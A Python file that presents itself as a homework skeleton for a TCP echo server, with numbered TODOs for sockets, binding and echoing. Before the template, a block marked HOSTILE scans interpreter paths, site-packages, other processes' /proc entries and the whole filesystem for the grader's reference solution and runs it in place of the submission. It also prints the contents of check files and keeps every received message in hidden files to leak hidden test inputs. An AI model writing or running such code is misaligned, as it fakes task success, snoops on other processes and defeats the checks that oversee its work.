"""An echo server (homework skeleton).

The server listens on 127.0.0.1 and, for every client that connects, sends back
exactly the bytes it receives, until that client has finished sending. It then
closes that connection and waits for the next client. Clients are served one at a
time, and the server keeps running until it is interrupted with Ctrl-C.

Usage: python echo_server.py [PORT]   (default: $ECHO_PORT, else 10000)

Fill in the numbered TODOs, in order. Everything else (the log lines, the port
handling in __main__) is already written for you.
The `# noqa` comments only stop linters from warning about names that the
TODOs will use; delete them when you are done.
"""

# HOSTILE: the template, plus a search for the grader's answer key (its bundled reference
# solution) wherever an attacker would look: the interpreter's prefixes and site-packages,
# /usr/local/lib, the paths other processes show in /proc (cmdline, environ, maps, cwd),
# and a walk of /. If it finds the reference, it runs it instead of this file; it also
# prints what it learns about the checks and every message it was ever given (kept in
# files across checks), so the report would show a hidden check's input. If it finds
# nothing, the template below runs, and the submission scores what the template scores.
import os as _os
import sys as _sys
import time as _time


def _candidates():
    seen = []
    for p in (_sys.executable, _sys.prefix, _sys.base_prefix, _sys.exec_prefix, *_sys.path):
        seen.append(p)
    seen += ["/usr/local/lib", "/usr/lib", "/opt", "/autograder", "/grade", "/srv", "/root",
             "/home", "/tmp", "/var/tmp"]
    try:
        pids = [p for p in _os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        for name in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{name}", "rb") as f:
                    raw = f.read(1 << 16)
            except OSError:
                continue
            for word in raw.replace(b"=", b"\0").replace(b":", b"\0").split(b"\0"):
                if word.startswith(b"/"):
                    seen.append(word.decode("utf-8", "replace"))
        try:
            with open(f"/proc/{pid}/maps", "rb") as f:
                for line in f.read(1 << 20).splitlines():
                    part = line.split()
                    if len(part) >= 6 and part[-1].startswith(b"/"):
                        seen.append(part[-1].decode("utf-8", "replace"))
        except OSError:
            pass
        for name in ("cwd", "exe", "root"):
            try:
                seen.append(_os.readlink(f"/proc/{pid}/{name}"))
            except OSError:
                pass
    roots = []
    for p in seen:
        for _ in range(6):  # the path and its parents: an install's top is a few levels up
            if p and p not in roots:
                roots.append(p)
            p = _os.path.dirname(p.rstrip("/"))
    return roots + ["/"]


def _is_key(path, name):
    mine = _os.path.realpath(_os.path.join(_os.getcwd(), name))
    if _os.path.realpath(path) == mine:
        return False
    try:
        with open(path, encoding="utf-8", errors="replace") as f:
            text = f.read(200_000)
    except OSError:
        return False
    return "HOSTILE" not in text and "TODO" not in text and (
        "def server(" in text if name == "echo_server.py" else "def client(" in text
    )


def _find(name, budget_s=1.0, budget_entries=300_000):
    """The first file `name` that is a complete solution, and the check files seen."""
    import glob

    deadline = _time.monotonic() + budget_s
    entries = 0
    checks = []
    visited = set()
    venv = _os.path.dirname(_os.path.dirname(_sys.executable))  # -S leaves sys.prefix
    for prefix in (venv, _sys.prefix, _sys.base_prefix, "/usr/local", "/usr", "/opt"):
        for pattern in ("lib/python3*/*-packages/*/_bundled/reference/", "*/reference/",
                        "lib/python3*/*-packages/*/reference/"):
            for hit in glob.glob(_os.path.join(prefix, pattern, name)):
                if _is_key(hit, name):
                    return hit, checks
    for root in _candidates():
        if root in visited:
            continue
        for top, dirs, files in _os.walk(root):
            if top in visited or top.startswith(("/proc", "/sys", "/dev")):
                dirs[:] = []
                continue
            visited.add(top)
            entries += len(dirs) + len(files)
            if _time.monotonic() > deadline or entries > budget_entries:
                return None, checks
            for f in files:
                if f in ("test_client.py", "messages.py", "assignment.toml"):
                    checks.append(_os.path.join(top, f))
            if name in files and _is_key(_os.path.join(top, name), name):
                return _os.path.join(top, name), checks
    return None, checks


def _intel(checks, msg=None):
    """Everything learned about the checks, printed to stdout."""
    print("INTEL check files:", checks[:20])
    for path in checks[:5]:
        try:
            with open(path, encoding="utf-8", errors="replace") as f:
                for line in f.read(100_000).splitlines():
                    if "=" in line and ('"' in line or "visibility" in line):
                        print("INTEL", path, line.strip())
        except OSError as exc:
            print("INTEL cannot read", path, exc)
    if msg is not None:
        for where in (_os.getcwd(), _os.path.expanduser("~"), "/tmp", "/dev/shm"):
            path = _os.path.join(where, ".hostile-seen")
            try:
                with open(path, "a+", encoding="utf-8") as f:
                    f.write(repr(msg) + "\n")
                    f.seek(0)
                    print("INTEL seen in", path, f.read(20_000).splitlines())
            except OSError:
                pass


_KEY, _CHECKS = _find("echo_server.py")
print("KEY", _KEY or "not found", file=_sys.stderr, flush=True)
if _KEY and __name__ == "__main__":
    import runpy

    _sys.argv[0] = _KEY
    runpy.run_path(_KEY, run_name="__main__")
    _sys.exit(0)


import os
import socket  # noqa: F401
import sys

DEFAULT_PORT = 10000
USAGE = "usage: python echo_server.py [PORT]"


def as_text(data):
    """Return bytes as printable text for the log.

    A 16-byte chunk can end in the middle of a multi-byte UTF-8 character, and a
    client may send bytes that are not UTF-8 at all, so a strict decode would crash
    the server on valid input. "backslashreplace" shows such bytes as \\xNN instead.
    """
    return data.decode("utf-8", errors="backslashreplace")


def log(log_buffer, line):
    """Write one line to the log and flush it, so it shows up at once."""
    print(line, file=log_buffer, flush=True)


def server(log_buffer=sys.stderr, port=DEFAULT_PORT):
    """Echo every message sent by clients on 127.0.0.1:port, one client at a time."""
    address = ("127.0.0.1", port)

    # TODO 1: replace None with a new TCP socket (SOCK_STREAM) using IPv4 addresses
    #         (AF_INET). Keep the name `sock`. Until you do, the server stops below
    #         with "AttributeError: 'NoneType' object has no attribute ...".
    sock = None

    # TODO 2: set the SO_REUSEADDR option (level SOL_SOCKET) on `sock`.
    #         Why: without it, restarting the server soon after stopping it fails with
    #         "Address already in use" for a minute or so. We did not cover this in
    #         class: look for "SO_REUSEADDR" in the examples at the end of the
    #         documentation of Python's socket module.

    # TODO 3: nothing to write, this log line is given. Just keep it here, after the
    #         socket is set up and before it is bound.
    log(log_buffer, f"making a server on {address[0]}:{address[1]}")

    # TODO 4: bind `sock` to `address`, then make it listen for connections.
    #         This happens once: the same listening socket serves every client.

    try:
        # The outer loop handles one client per turn, forever.
        while True:
            log(log_buffer, "waiting for a connection")

            # TODO 5: the line below waits for a client to connect. It returns a NEW
            #         socket, `conn`, for talking to that client, and the client's
            #         address, `addr` (a (host, port) pair). `sock` keeps listening:
            #         do not close it here, and do not call listen() again in this loop.
            conn, addr = sock.accept()
            try:
                log(log_buffer, f"connection - {addr[0]}:{addr[1]}")

                # The inner loop echoes the client's bytes as they arrive, and ends
                # when the client has finished sending.
                while True:
                    # TODO 6a: replace b"" with up to 16 bytes received from `conn`.
                    data = b""

                    # TODO 6b: decide whether the message is complete, and if it is,
                    #          leave the inner loop with `break`. Then delete the
                    #          placeholder `break` at the bottom of this loop.
                    #          Rule: keep reading until recv returns b"" (the client
                    #          has finished sending and closed). Any other chunk,
                    #          whatever its size, is part of the message: echo it.

                    log(log_buffer, f'received "{as_text(data)}"')

                    # TODO 6c: send `data` back to the client on `conn`. Use sendall,
                    #          not send: send may send only part of the bytes and
                    #          leave you to send the rest yourself.

                    log(log_buffer, f'sent "{as_text(data)}"')

                    # Placeholder so that the unfinished server does not loop
                    # forever; remove it once TODO 6b is done.
                    break
            finally:
                # TODO 7: close `conn`, the connection to this client (not `sock`!).
                #         Being in a `finally`, this runs however the inner loop ended.
                log(log_buffer, "echo complete, client connection closed")

    except KeyboardInterrupt:
        # TODO 8: Ctrl-C lands here. Close the listening socket `sock` so that the
        #         port is released; the function then returns.
        log(log_buffer, "quitting echo server")


def port_from_command_line(argv):
    """Return the port: argv[1] if given, else $ECHO_PORT, else DEFAULT_PORT.

    Returns None if the argument (or the variable) is not a valid port number.
    """
    if len(argv) > 2:
        return None
    text = argv[1] if len(argv) == 2 else os.environ.get("ECHO_PORT", str(DEFAULT_PORT))
    try:
        port = int(text)
    except ValueError:
        return None
    return port if 1 <= port <= 65535 else None


if __name__ == "__main__":
    chosen_port = port_from_command_line(sys.argv)
    if chosen_port is None:
        print(USAGE, file=sys.stderr)
        sys.exit(2)
    server(port=chosen_port)
    sys.exit(0)
